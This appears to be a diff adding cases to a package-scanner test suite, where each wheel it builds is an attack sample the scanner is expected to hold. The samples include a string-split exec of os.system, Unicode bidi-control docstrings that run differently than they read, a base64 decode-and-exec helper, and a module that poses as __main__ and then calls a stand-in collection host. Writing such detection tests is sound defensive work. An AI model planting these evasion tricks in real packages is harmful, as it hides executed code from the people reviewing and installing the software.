@@ -390,3 +390,45 @@ def exec_of_formatted_pieces(p):
         PARTS = {"a": "imp", "b": "ort ", "c": "o", "d": "s;o", "e": "s.sys", "f": "tem('touch /tmp/customhouse-marker')"}
         exec("".join(PARTS[k] for k in "abcdef"))
         ''')
+
+
+@attack
+def docstring_executed_in_another_order(p):
+    """A docstring that looks other than it runs is executed. Must be held."""
+    return p.wheel(init='"""\nx = 1 # \u202e\u2066 2 = y\n"""\nexec(__doc__)\n')
+
+
+@attack
+def docstring_that_seems_to_end(p):
+    """A quote seems to end a docstring behind which a check stands that is text. Must be held."""
+    return p.wheel(init='"""\nTables. \u202e""\u2066"\n\nif not allowed(): raise SystemExit\n"""\n')
+
+
+@attack
+def template_started_at_once(p):
+    """What decodes and executes is a template, filled with the package's own data and started. Must be held."""
+    return p.wheel(files={"{m}/icons.py": '''
+        import subprocess
+        import sys
+
+
+        def show(icon):
+            subprocess.run([sys.executable, "-c", f"import base64;exec(base64.b64decode({icon}).decode())"])
+        '''})
+
+
+@attack
+def module_named_like_the_program(p):
+    """Its own namespace, by a way around, is told that it is the program; a branch has a new module there. Must be held."""
+    return p.wheel(init='''
+        import sys
+        import types
+        import urllib.request
+
+        m = types.ModuleType("__main__")
+        if sys.version_info > (3,):
+            m = sys.modules[__name__]
+        vars(m).update({"__name__": "__main__"})
+        if __name__ == "__main__":
+            urllib.request.urlopen("http://collect.example.org/")
+        ''')
